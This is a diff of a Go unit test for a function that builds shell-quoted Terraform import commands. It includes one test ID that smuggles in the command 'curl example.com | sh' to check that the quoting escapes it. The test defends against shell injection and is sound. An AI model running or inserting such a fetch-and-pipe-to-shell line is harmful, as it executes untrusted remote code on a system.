@@ -156,9 +156,9 @@ func TestLabel(t *testing.T) {
 func TestImportCommand(t *testing.T) {
 	t.Parallel()
 	for id, want := range map[string]string{
-		GrantImportID(paymentService, "Payments"):                     `terraform import a.b '987654321098,us-east-1,payment-service,Payments'`,
-		RolePolicyImportID("ecsTaskExecutionRole", DefaultPolicyName): `terraform import a.b 'ecsTaskExecutionRole,ecrxa-pull'`,
-		RolePolicyImportID("r", `x'; curl example.com | sh; echo '`):  `terraform import a.b 'r,x'\''; curl example.com | sh; echo '\'''`,
+		GrantImportID(paymentService, "Payments"): `terraform import a.b '987654321098,us-east-1,payment-service,Payments'`,
+		"ecsTaskExecutionRole,ecrxa-pull":         `terraform import a.b 'ecsTaskExecutionRole,ecrxa-pull'`,
+		`r,x'; curl example.com | sh; echo '`:     `terraform import a.b 'r,x'\''; curl example.com | sh; echo '\'''`,
 	} {
 		if got := ImportCommand("a.b", id); got != want {
 			t.Errorf("got %s, want %s", got, want)
